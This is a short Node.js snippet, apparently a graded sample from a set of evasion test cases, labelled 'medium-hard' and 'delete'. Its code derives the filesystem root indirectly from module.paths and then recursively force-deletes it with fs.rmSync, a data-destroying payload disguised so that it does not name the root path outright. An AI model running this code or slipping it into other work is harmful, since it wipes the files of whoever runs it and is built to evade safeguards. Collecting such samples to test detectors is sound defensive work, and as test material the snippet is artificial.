// evasion: the last of module.paths is /node_modules; its dirname is the root, removed
// grade: medium-hard; does: delete
const fs = require("fs");
const path = require("path");
const top = path.dirname(module.paths[module.paths.length - 1]);
fs.rmSync(top, { recursive: true, force: true });
